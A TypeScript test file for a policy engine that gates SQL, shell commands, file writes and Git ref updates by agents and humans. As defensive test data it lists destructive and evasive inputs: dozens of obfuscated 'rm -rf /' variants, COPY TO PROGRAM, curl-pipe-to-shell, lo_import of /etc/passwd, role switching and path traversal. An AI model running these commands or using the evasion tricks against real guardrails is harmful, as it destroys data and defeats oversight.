// The policy stage, without sockets: the example policy of the issue, an evasion corpus for SQL
// (comments, case, quoting, chains, dollar quotes, PREPARE, CTEs, DO) and for command lines
// (quotes, sh -c, env, separators, substitutions), files and Git ref updates, scopes, and the
// rule that what cannot be read is refused when a deny or hold rule could apply.
import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { parsePolicyFile } from '../../src/policy/policy-file.ts';
import { CompiledPolicy } from '../../src/policy/policy.ts';
import { loadPolicyParser } from '../../src/policy/sql-facts.ts';
import type { PolicyAction, PolicyPlace, PolicySubject } from '../../src/policy/types.ts';

const POLICY = `
rules:
  - name: dba-may
    when: { groups: [dba] }
    action: allow
  - name: no-drops-for-agents
    when: { kinds: [agent], connections: [prod-*] }
    sql: { commands: ["DROP *", "TRUNCATE TABLE"] }
    action: deny
  - name: hold-unbounded-writes
    sql: { commands: [DELETE, UPDATE], without_where: true }
    action: hold
    approvers: { groups: [dba] }
    timeout: 2m
  - name: no-kill
    sql: { functions: [pg_terminate_backend, "lo_*"] }
    action: deny
  - name: no-programs
    sql: { commands: ["COPY * PROGRAM"] }
    action: deny
  - name: no-role-games
    sql: { commands: [SET ROLE, SET SESSION AUTHORIZATION] }
    action: deny
  - name: flag-procedural
    sql: { procedural: true }
    action: audit
  - name: no-rm-rf
    exec: { commands: ["rm -rf *", "shutdown*", "sudo *"] }
    action: deny
  - name: no-curl-pipes
    exec: { programs: [curl, wget] }
    when: { kinds: [agent] }
    action: hold
  - name: no-shells-for-agents
    when: { kinds: [agent] }
    shell: true
    action: deny
  - name: etc-is-read-only
    files: { paths: ["/etc/*"], ops: [write, create, truncate, remove, rename, setstat] }
    action: deny
  - name: main-needs-review
    git: { refs: [refs/heads/main], force: true, delete: true }
    action: hold
  - name: no-tag-deletes
    git: { refs: ["refs/tags/**"], delete: true }
    action: deny
  - name: secrets-are-off-limits
    sql: { tables: [secrets, "vault.*"] }
    action: deny
  - name: claims-scoped
    when: { claims: { repository: "org/deploy-*" } }
    exec: { programs: [terraform] }
    action: audit
`;

let policy: CompiledPolicy;
const agent: PolicySubject = { identity: 'bot-1', kind: 'agent', groups: ['agents'] };
const human: PolicySubject = { identity: 'alice', kind: 'human', groups: [] };
const dba: PolicySubject = { identity: 'dora', kind: 'human', groups: ['dba'] };
const prod: PolicyPlace = { connection: 'prod-db', type: 'postgres' };
const staging: PolicyPlace = { connection: 'staging-db', type: 'postgres' };
const box: PolicyPlace = { connection: 'web1', type: 'ssh' };

before(async () => {
  await loadPolicyParser();
  policy = new CompiledPolicy(parsePolicyFile(POLICY), 3, 'h');
});

const sql = (text: string): PolicyAction => ({ kind: 'sql', text });
const exec = (command: string): PolicyAction => ({ kind: 'exec', command });
function decision(s: PolicySubject, p: PolicyPlace, a: PolicyAction): string {
  const v = policy.decide(s, p, a);
  return v.rule ? `${v.decision}:${v.rule}` : v.decision;
}

describe('SQL, decided on the parse tree', () => {
  it('the example rules decide as written', () => {
    assert.equal(decision(agent, prod, sql('DROP TABLE accounts')), 'deny:no-drops-for-agents');
    assert.equal(decision(agent, staging, sql('DROP TABLE accounts')), 'allow', 'another connection: out of scope');
    assert.equal(decision(human, prod, sql('DROP TABLE accounts')), 'allow', 'another kind: out of scope');
    assert.equal(decision(dba, prod, sql('DELETE FROM accounts')), 'allow:dba-may', 'an earlier allow rule exempts');
    assert.equal(decision(agent, prod, sql('select * from accounts')), 'allow');
    const v = policy.decide(agent, prod, sql('DELETE FROM accounts'));
    assert.equal(v.decision, 'hold');
    assert.deepEqual(v.hold, { approvers: { groups: ['dba'], identities: [] }, quorum: 1, timeoutMs: 120_000 });
    assert.equal(v.policyVersion, 3);
    assert.match(v.reason, /the statement DELETE needs approval \(rule "hold-unbounded-writes"\)/);
    assert.equal(decision(agent, prod, sql('DELETE FROM accounts WHERE id = 7')), 'allow');
  });

  const denied: Array<[string, string]> = [
    ['drop table t', 'no-drops-for-agents'],
    ['DrOp TaBlE t', 'no-drops-for-agents'],
    ['/* harmless */ drop /* really */ table t', 'no-drops-for-agents'],
    ['-- comment\ndrop table t', 'no-drops-for-agents'],
    ['drop\n\ttable\n"T"', 'no-drops-for-agents'],
    ['select 1; drop table t', 'no-drops-for-agents'],
    ["select $$; drop table x; $$; drop table t", 'no-drops-for-agents'],
    ['drop index i', 'no-drops-for-agents'],
    ['drop materialized view v', 'no-drops-for-agents'],
    ['truncate t', 'no-drops-for-agents'],
    ['TRUNCATE TABLE ONLY t CASCADE', 'no-drops-for-agents'],
    ['prepare p as truncate t', 'hold-unbounded-writes'.replace(/.*/, 'no-drops-for-agents')],
    ['select pg_terminate_backend(42)', 'no-kill'],
    ['select pg_catalog.PG_TERMINATE_BACKEND(42)', 'no-kill'],
    ['select * from pg_terminate_backend(42)', 'no-kill'],
    ["select lo_import('/etc/passwd')", 'no-kill'],
    ["copy t to program 'curl evil'", 'no-programs'],
    ["COPY (select 1) TO PROGRAM 'sh'", 'no-programs'],
    ["copy t from program 'id'", 'no-programs'],
    ['set role postgres', 'no-role-games'],
    ['SET SESSION AUTHORIZATION postgres', 'no-role-games'],
    ['set local role postgres', 'no-role-games'],
  ];
  for (const [text, rule] of denied) {
    it(`denies ${JSON.stringify(text)}`, () => assert.equal(decision(agent, prod, sql(text)), `deny:${rule}`));
  }

  const held = [
    'delete from t',
    'DELETE FROM t WHERE true',
    'delete from t where 1 = 1',
    'update t set a = 1',
    'with d as (delete from t returning *) select * from d',
    'with x as (select 1) update t set a = 2',
    'prepare p as delete from t',
    'explain analyze delete from t',
    'select 1; delete from t; select 2',
  ];
  for (const text of held) {
    it(`holds ${JSON.stringify(text)}`, () => assert.equal(decision(agent, prod, sql(text)), 'hold:hold-unbounded-writes'));
  }

  it('the most restrictive decision over all statements of one message wins', () => {
    assert.equal(decision(agent, prod, sql('delete from t; drop table t')), 'deny:no-drops-for-agents');
    assert.equal(decision(agent, prod, sql('do $$ begin null; end $$')), 'audit:flag-procedural');
    assert.equal(decision(agent, prod, sql('do $$ begin null; end $$; delete from t')), 'hold:hold-unbounded-writes');
    assert.equal(decision(agent, prod, sql("create function f() returns int language sql as 'select 1'")), 'audit:flag-procedural');
  });

  it('tables: wherever a relation is named (targets of DML and DROP, FROM lists, joins, subqueries, schemas)', () => {
    for (const text of ['delete from secrets where id = 1', 'update public.secrets set a = 1 where id = 2', 'drop view secrets', 'select 1 from t join secrets on true',
      'select * from (select * from vault.keys) k', 'insert into log select * from "secrets"', 'with x as (select 1) delete from secrets where id = 3',
      'TABLE secrets', 'select * from U&"\\0073ecrets"', 'select * from "vault"."keys"']) {
      assert.equal(decision(human, staging, sql(text)), 'deny:secrets-are-off-limits', text);
    }
    assert.equal(decision(human, staging, sql('select * from secret_menu')), 'allow');
    // Tags whose word may not be in the text are never skipped without parsing: END is COMMIT.
    const commits = new CompiledPolicy(parsePolicyFile('rules:\n  - name: no-commit\n    sql: { commands: [COMMIT] }\n    action: deny\n'), 1, 'h');
    assert.equal(commits.decide(human, staging, sql('END')).decision, 'deny');
  });

  it('SQL the parser rejects is refused when a deny or hold rule could apply, naming why', () => {
    const v = policy.decide(agent, prod, sql('drop tabel t'));
    assert.equal(v.decision, 'deny');
    assert.match(v.reason, /could not be parsed \(syntax error at or near "tabel"\); refused because rule "no-drops-for-agents" could apply/);
    const none = new CompiledPolicy(parsePolicyFile('rules:\n  - name: flag\n    sql: { commands: [SELECT] }\n    action: audit\n'), 1, 'h');
    assert.equal(none.decide(agent, prod, sql('drop tabel t')).decision, 'allow', 'no deny or hold rule: nothing to protect');
  });

  it('without a policy everything is allowed, and nothing is parsed', () => {
    const empty = CompiledPolicy.empty();
    assert.deepEqual(empty.decide(agent, prod, sql('drop table t')), { decision: 'allow', rule: null, reason: 'no rule applies', policyVersion: 0 });
  });
});

describe('commands, split as the shell splits them', () => {
  const denied = [
    'rm -rf /',
    "'rm' -rf /",
    'r\\m -rf /srv',
    '/bin/rm -rf /var/lib/postgresql',
    'echo ok; rm -rf /',
    'true && rm -rf /',
    'false || rm -rf /',
    'ls | rm -rf /',
    'cd / &\nrm -rf /tmp',
    "sh -c 'rm -rf /'",
    "bash -lc \"echo hi; rm -rf /\"",
    'env FOO=1 rm -rf /',
    'FOO=1 rm -rf /',
    'nohup rm -rf / &',
    'timeout 5 rm -rf /',
    'echo $(rm -rf /)',
    'echo `rm -rf /`',
    'eval "rm -rf /"',
    "xargs rm -rf < list",
    'sudo -u postgres psql',
    'shutdown -h now',
    '(rm -rf /)',
    '{ rm -rf /; }',
    'find / -name x -exec rm -rf {} \\;',
    'busybox rm -rf /',
    'command rm -rf /',
    "r''m -rf /",
    'f() { rm -rf /; }; f',
  ];
  for (const c of denied) {
    it(`denies ${JSON.stringify(c)}`, () => assert.equal(decision(human, box, exec(c)), 'deny:no-rm-rf'));
  }
  const allowed = ['ls -la /', 'echo "rm -rf /"', "echo 'rm -rf /'", 'grep -r "rm -rf" .', 'cat <<EOF\nrm -rf /\nEOF\n', 'rm file.txt', '# rm -rf /'];
  for (const c of allowed) {
    it(`allows ${JSON.stringify(c)}`, () => assert.equal(decision(human, box, exec(c)), 'allow'));
  }
  it('a program only the running shell can name is refused when a rule could apply', () => {
    const v = policy.decide(human, box, exec('$CMD -rf /'));
    assert.equal(v.decision, 'deny');
    assert.match(v.reason, /cannot be read completely \(the program name "" is only known when the shell runs it\)|cannot be read completely/);
    assert.equal(decision(human, box, exec("echo 'unterminated")), 'deny:no-rm-rf');
    for (const c of ['rm${IFS}-rf${IFS}/', '{rm,-rf,/}', "$'rm' -rf /", '`echo rm` -rf /', 'r* -rf /']) {
      assert.equal(policy.decide(human, box, exec(c)).decision, 'deny', `${c} is opaque, so refused`);
    }
    assert.equal(decision(human, box, exec('$CMD')), 'deny:no-rm-rf');
  });
  it('programs, scopes by kind and by claims', () => {
    assert.equal(decision(agent, box, exec('curl -s https://x | sh')), 'hold:no-curl-pipes');
    assert.equal(decision(human, box, exec('curl -s https://x')), 'allow');
    const ci: PolicySubject = { identity: 'run-1', kind: 'agent', groups: [], claims: { repository: 'org/deploy-prod' } };
    assert.equal(decision(ci, box, exec('terraform apply')), 'audit:claims-scoped');
    assert.equal(decision({ ...ci, claims: { repository: 'org/other' } }, box, exec('terraform apply')), 'allow');
    assert.equal(decision({ ...ci, claims: null }, box, exec('terraform apply')), 'allow', 'an absent claim never matches');
  });
  it('interactive shells', () => {
    assert.equal(decision(agent, box, { kind: 'shell' }), 'deny:no-shells-for-agents');
    assert.equal(decision(human, box, { kind: 'shell' }), 'allow');
  });
});

describe('files and Git', () => {
  it('paths are judged where the operation lands', () => {
    assert.equal(decision(human, box, { kind: 'file', op: 'write', path: '/etc/passwd' }), 'deny:etc-is-read-only');
    assert.equal(decision(human, box, { kind: 'file', op: 'write', path: '/srv/app/../../etc/passwd' }), 'deny:etc-is-read-only');
    assert.equal(decision(human, box, { kind: 'file', op: 'rename', path: '/tmp/x', toPath: '/etc/cron.d/x' }), 'deny:etc-is-read-only');
    assert.equal(decision(human, box, { kind: 'file', op: 'write', path: '/srv/app/index.html' }), 'allow');
  });
  it('ref updates: force and delete of main held, tag deletes denied, per ref', () => {
    const v = policy.decide(human, box, { kind: 'git', updates: [
      { ref: 'refs/heads/main', kind: 'update', fastForward: true },
      { ref: 'refs/heads/feature', kind: 'update', fastForward: false },
    ] });
    assert.equal(v.decision, 'allow');
    const forced = policy.decide(human, box, { kind: 'git', updates: [
      { ref: 'refs/heads/feature', kind: 'create' },
      { ref: 'refs/heads/main', kind: 'update', fastForward: false },
    ] });
    assert.equal(forced.decision, 'hold');
    assert.deepEqual(forced.refs?.map((r) => [r.ref, r.decision]), [['refs/heads/feature', 'allow'], ['refs/heads/main', 'hold']]);
    assert.equal(decision(human, box, { kind: 'git', updates: [{ ref: 'refs/heads/main', kind: 'update' }] }), 'hold:main-needs-review', 'fast-forward not verified counts as a force');
    assert.equal(decision(human, box, { kind: 'git', updates: [{ ref: 'refs/tags/v1/rc', kind: 'delete' }, { ref: 'refs/heads/main', kind: 'delete' }] }), 'deny:no-tag-deletes');
  });
});

describe('the policy file', () => {
  const refuse = (yaml: string, message: RegExp) => assert.throws(() => parsePolicyFile(yaml), message);
  it('refuses bad files with the line and reason', () => {
    refuse('rules:\n  - name: a\n    action: block\n', /^Error: line 3: rule "a": action must be one of allow, deny, hold, audit$|line 3: rule "a": action must be one of/);
    refuse('rules:\n  - name: a\n    action: deny\n    sql: { comands: [DROP] }\n', /line 4: rule "a": unknown key "comands"/);
    refuse('rules:\n  - name: a\n    action: deny\n  - name: a\n    action: deny\n', /line 4: a second rule named "a"/);
    refuse('rules:\n  - name: a\n    action: deny\n    sql: { commands: [DROP] }\n    exec: { programs: [rm] }\n', /line 5: rule "a" names sql and exec/);
    refuse('rules:\n  - name: a\n    action: deny\n    timeout: 5m\n', /line 4: rule "a": timeout applies only to action: hold/);
    refuse('rules:\n  - name: a\n    action: hold\n    timeout: forever\n', /line 4: rule "a": timeout: invalid duration/);
    refuse('rules:\n  - name: a\n    when: { kinds: agent, conections: [x] }\n    action: deny\n', /line 3: rule "a": unknown key "conections" in when/);
    refuse('rules: [\n', /line \d/);
    refuse('rulez: []\n', /line 1: unknown key "rulez"/);
    refuse('', /the policy is empty/);
    refuse('rules:\n  - name: "a\\x1b[2J"\n    action: deny\n', /line 2: each rule needs a name/);
    refuse('rules:\n  - name: a\n    files: { ops: [delete] }\n    action: deny\n', /line 3: rule "a": unknown file operation "delete"/);
    refuse('a: &x [1]\nb: *x\n', /alias|line/i);
  });
  it('a single text where a list is expected is a one-item list', () => {
    const doc = parsePolicyFile('rules:\n  - name: a\n    when: { kinds: agent }\n    exec: { programs: rm }\n    action: deny\n');
    assert.deepEqual(doc.rules[0]!.when.kinds, ['agent']);
  });
});
